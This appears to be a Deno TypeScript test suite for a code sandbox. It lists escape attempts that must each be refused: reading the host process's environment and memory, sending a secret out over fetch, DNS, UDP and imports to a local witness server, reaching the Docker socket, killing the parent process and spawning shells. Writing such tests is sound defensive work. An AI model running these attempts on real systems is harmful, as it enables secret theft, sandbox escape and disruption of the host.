/** Code tries to get out: to files, to the network, to other processes, to what the operator has. */
import { assertEquals, assertMatch } from "@std/assert";
import { TestCode } from "./test_code.ts";
import { Witness } from "./witness.ts";

const SECRET = "s3cr3t";

/** How a refusal sounds, from Deno or from one of its parts. */
const REFUSED =
  /NotCapable|Requires \w+ access|EPERM|EACCES|not allowed|--no-npm|--no-remote|not a function|is not defined|Command failed|max 0|storage directory|NotADirectory|undefined \(reading/;

/** Runs attempts in one session; each must be refused, by its own code and by what is thrown. */
async function assertRefused(attempts: Readonly<Record<string, string>>): Promise<void> {
  await using code = new TestCode();
  const pid = await code.pid();
  for (const [name, attempt] of Object.entries(attempts)) {
    const answer = await code.run(`
      await (async () => { ${attempt} })().then(
        (value) => "done: " + Deno.inspect(value),
        (error) => "refused: " + error?.name + ": " + error?.message + " " + error?.code,
      )`);
    // What is not caught is printed beside it.
    const told = typeof answer === "string" ? answer : (answer as { result: string }).result;
    assertMatch(told, /^refused: /, `${name}: ${told}`);
    assertMatch(told, REFUSED, `${name}: ${told}`);
  }
  assertEquals(await code.pid(), pid, "the sandbox is the same");
}

/** Does something in an attempt once a module of Node's is there. */
function withNode(module: string, statement: string): string {
  return `const node = await import("node:${module}"); ${statement}`;
}

Deno.test("code reads nothing", async () => {
  const secret = await Deno.makeTempFile({ prefix: "witness-" });
  try {
    await Deno.writeTextFile(secret, SECRET);
    const path = JSON.stringify(secret);
    await assertRefused({
      readTextFile: `return await Deno.readTextFile(${path})`,
      readFileSync: `return Deno.readFileSync(${path})`,
      open: `return await Deno.open(${path})`,
      stat: `return await Deno.stat(${path})`,
      readDir: `for await (const entry of Deno.readDir("/")) return entry`,
      realPath: `return await Deno.realPath(".")`,
      readLink: `return await Deno.readLink("/proc/self/exe")`,
      "own environment": `return await Deno.readTextFile("/proc/self/environ")`,
      "the host's environment": `return await Deno.readTextFile("/proc/" + Deno.ppid + "/environ")`,
      "the host's memory": `return Deno.openSync("/proc/" + Deno.ppid + "/mem")`,
      "own folder": `return await Deno.readTextFile(Deno.cwd() + "/gen")`,
      watchFs: `return Deno.watchFs("/etc")`,
      fetch: `return await (await fetch("file://" + ${path})).text()`,
      import: `return await import("file://" + ${path})`,
      "import as text": `return await import("file://" + ${path}, { with: { type: "text" } })`,
      "import as JSON": `return await import("file://" + ${path}, { with: { type: "json" } })`,
      "node fs": withNode("fs", `return node.readFileSync(${path}, "utf8")`),
      "node fs promises": withNode("fs/promises", `return await node.readFile(${path})`),
      "node fs stream": withNode(
        "fs",
        `await new Promise((resolve, reject) => node.createReadStream(${path}).on("data", resolve).on("error", reject))`,
      ),
      require: withNode("module", `return node.createRequire("file:///x.js")(${path})`),
      sqlite: withNode("sqlite", `return new node.DatabaseSync(${path})`),
      "process.loadEnvFile": `return process.loadEnvFile(${path})`,
    });
  } finally {
    await Deno.remove(secret);
  }
});

Deno.test("code writes nothing", async () => {
  const folder = await Deno.makeTempDir({ prefix: "witness-" });
  try {
    const path = JSON.stringify(`${folder}/written`);
    await assertRefused({
      writeTextFile: `return await Deno.writeTextFile(${path}, "x")`,
      create: `return await Deno.create(${path})`,
      mkdir: `return Deno.mkdirSync(${path})`,
      makeTempFile: `return await Deno.makeTempFile()`,
      makeTempDir: `return await Deno.makeTempDir()`,
      remove: `return await Deno.remove(${JSON.stringify(folder)})`,
      rename: `return await Deno.rename(${JSON.stringify(folder)}, ${path})`,
      symlink: `return await Deno.symlink("/etc/passwd", ${path})`,
      link: `return await Deno.link("/etc/passwd", ${path})`,
      chmod: `return await Deno.chmod(${JSON.stringify(folder)}, 0o777)`,
      "own folder": `return await Deno.writeTextFile("file", "x")`,
      "own program's memory": `return await Deno.writeTextFile("/proc/self/mem", "x")`,
      "killing by memory": `return await Deno.writeTextFile("/proc/self/oom_score_adj", "-1000")`,
      "standard output by its path": `return Deno.openSync("/dev/stdout", { write: true })`,
      "node fs": withNode("fs", `return node.writeFileSync(${path}, "x")`),
      "node temporary folder": withNode("fs", `return node.mkdtempSync("/var/x")`),
      sqlite: withNode("sqlite", `return new node.DatabaseSync(${path})`),
      "a copy by sqlite": withNode(
        "sqlite",
        `return new node.DatabaseSync(":memory:").exec("VACUUM INTO '${folder}/written'") ?? Deno.readDirSync(".")`,
      ),
      "attached by sqlite": withNode(
        "sqlite",
        `new node.DatabaseSync(":memory:").exec("ATTACH '${folder}/written' AS w; CREATE TABLE w.t (a)"); return Deno.readDirSync(".")`,
      ),
      "heap snapshot": withNode("v8", `return node.writeHeapSnapshot(${path})`),
    });
    assertEquals(Array.from(Deno.readDirSync(folder)), []);
  } finally {
    await Deno.remove(folder, { recursive: true });
  }
});

Deno.test("code reaches nobody", async () => {
  await using witness = new Witness();
  const { port } = witness;
  const url = `http://127.0.0.1:${port}/${SECRET}`;
  await assertRefused({
    fetch: `return await fetch("${url}")`,
    "fetch by name": `return await fetch("http://localhost:${port}/${SECRET}")`,
    "fetch by POST": `return await fetch("${url}", { method: "POST", body: "${SECRET}" })`,
    "another form of the address": `return await fetch("http://2130706433:${port}/")`,
    WebSocket: `return new WebSocket("ws://127.0.0.1:${port}/${SECRET}")`,
    EventSource: `await new Promise((_, reject) => {
      const source = new EventSource("${url}");
      source.onerror = () => (source.close(), reject(new Error("not allowed")));
    })`,
    connect: `return await Deno.connect({ hostname: "127.0.0.1", port: ${port} })`,
    connectTls: `return await Deno.connectTls({ hostname: "127.0.0.1", port: ${port} })`,
    "a socket in the file system":
      `return await Deno.connect({ transport: "unix", path: "/var/run/docker.sock" })`,
    listen: `return Deno.listen({ port: 0 })`,
    serve: `return Deno.serve({ port: 0 }, () => new Response())`,
    resolveDns: `return await Deno.resolveDns("${SECRET}.example.com", "A")`,
    "node dns": withNode("dns/promises", `return await node.lookup("${SECRET}.example.com")`),
    "node dns resolver": withNode(
      "dns/promises",
      `const resolver = new node.Resolver(); resolver.setServers(["127.0.0.1:${port}"]); return await resolver.resolve4("${SECRET}.example.com")`,
    ),
    "node http": withNode(
      "http",
      `await new Promise((resolve, reject) => node.get("${url}", resolve).on("error", reject))`,
    ),
    "node net": withNode(
      "net",
      `await new Promise((resolve, reject) => node.connect(${port}, "127.0.0.1", resolve).on("error", reject))`,
    ),
    "node tls": withNode(
      "tls",
      `await new Promise((resolve, reject) => node.connect({ host: "127.0.0.1", port: ${port} }, resolve).on("error", reject))`,
    ),
    "node dgram": withNode(
      "dgram",
      `await new Promise((resolve, reject) => {
        addEventListener("error", (event) => reject(event.error), { once: true });
        node.createSocket("udp4").send("${SECRET}", ${port}, "127.0.0.1", resolve);
      })`,
    ),
    import: `return await import("${url}.js")`,
    "import with a computed address":
      `const secret = "${SECRET}"; return await import(["http:", "", "127.0.0.1:${port}", secret].join("/"))`,
    "import from https": `return await import("https://127.0.0.1:${port}/${SECRET}.js")`,
    "import from npm": `return await import("npm:" + "${SECRET}" + "-package")`,
    "import from jsr": `return await import("jsr:@${SECRET}/package")`,
    "import by a module in a data: URL":
      `return await import("data:text/javascript,import 'http://127.0.0.1:${port}/${SECRET}.js'")`,
    "import by a module in a blob: URL":
      `return await import(URL.createObjectURL(new Blob(["import '${url}.js'"], { type: "text/javascript" })))`,
    "a sandbox's own registry": withNode(
      "module",
      `return node.createRequire("file:///x.js")("${SECRET}")`,
    )
      .replace("return", "try { return").concat(" } catch { throw new Error('not allowed') }"),
  });
  assertEquals(witness.heard, []);
});

Deno.test("code learns nothing of the machine, and gets no permission by asking", async () => {
  const kinds = ["read", "write", "net", "env", "sys", "run", "ffi", "import"];
  const asked = Object.fromEntries(kinds.map((name) => [
    `asking for ${name}`,
    `const { state } = await Deno.permissions.request({ name: "${name}" });
     if (state !== "granted") throw new Error("not allowed")`,
  ]));
  await assertRefused({
    hostname: "return Deno.hostname()",
    osRelease: "return Deno.osRelease()",
    loadavg: "return Deno.loadavg()",
    networkInterfaces: "return Deno.networkInterfaces()",
    systemMemoryInfo: "return Deno.systemMemoryInfo()",
    uid: "return Deno.uid()",
    "node cpus": withNode("os", "return node.cpus()"),
    "node userInfo": withNode("os", "return node.userInfo()"),
    "node hostname": withNode("os", "return node.hostname()"),
    "process.getuid": "return process.getuid()",
    "another inspector session": withNode(
      "inspector",
      "const session = new node.Session(); session.connect(); return session",
    ),
    "an inspector for others": withNode("inspector", "return node.open(0)"),
    "the environment": "if (Deno.env.get('PATH') === undefined) throw new Error('not allowed')",
    "the environment, all of it":
      "if (Object.keys(Deno.env.toObject()).length === 0) throw new Error('not allowed')",
    "the environment by Node": "if (process.env.PATH === undefined) throw new Error('not allowed')",
    "Deno's own parts": "return Deno[Deno.internal].core",
    "Deno's own parts by another name": "return Deno[Object.getOwnPropertySymbols(Deno)[0]].core",
    "the window that was": "return __bootstrap",
    "the graphics card": "return await navigator.gpu.requestAdapter()",
    ...asked,
  });
});

Deno.test("code starts, ends and signals nobody", async () => {
  await assertRefused({
    Command: `return new Deno.Command("sh", { args: ["-c", "kill " + Deno.ppid] }).outputSync()`,
    "Command, spawned":
      `return new Deno.Command(Deno.execPath(), { args: ["run", "-A", "x"] }).spawn()`,
    "killing the host": `return Deno.kill(Deno.ppid, "SIGKILL")`,
    "killing everybody": `return Deno.kill(-1, "SIGKILL")`,
    "killing oneself's group": `return Deno.kill(0, "SIGTERM")`,
    "process.kill": `return process.kill(process.ppid, "SIGKILL")`,
    "child_process exec": withNode(
      "child_process",
      `await new Promise((resolve, reject) => node.exec("id", (error) => error ? reject(error) : resolve()))`,
    ),
    "child_process execSync": withNode("child_process", `return node.execSync("id")`),
    "child_process spawnSync": withNode(
      "child_process",
      `const { status } = node.spawnSync("id"); if (status === undefined) throw new Error("not allowed")`,
    ),
    dlopen: `return Deno.dlopen("libc.so.6", {})`,
    "process.dlopen": `return process.dlopen({ exports: {} }, "/lib/x.node")`,
    UnsafeCallback: `return new Deno.UnsafeCallback({ parameters: [], result: "void" }, () => {})`,
    "require of a library": withNode(
      "module",
      `return node.createRequire("file:///x.js")("/lib/x.node")`,
    ),
    chdir: `return Deno.chdir("/")`,
  });
});

Deno.test("code keeps nothing, and has no folder", async () => {
  await assertRefused({
    caches: `return await caches.open("a")`,
    localStorage: `return localStorage.setItem("a", "b")`,
    kv: `return await Deno.openKv()`,
  });
  await using code = new TestCode();
  const piece =
    "const { a } = await import('data:application/typescript,export const a: number = 1'); a";
  assertEquals(await code.run(piece), 1);
  assertEquals(await code.run("Deno.cwd()"), "/");
  const pid = await code.pid();
  const open = Array.from(Deno.readDirSync(`/proc/${pid}/fd`), ({ name }) => {
    try {
      return Deno.readLinkSync(`/proc/${pid}/fd/${name}`);
    } catch {
      return "";
    }
  });
  assertEquals(open.filter((path) => path.startsWith("/") && !path.startsWith("/dev/")), []);
});
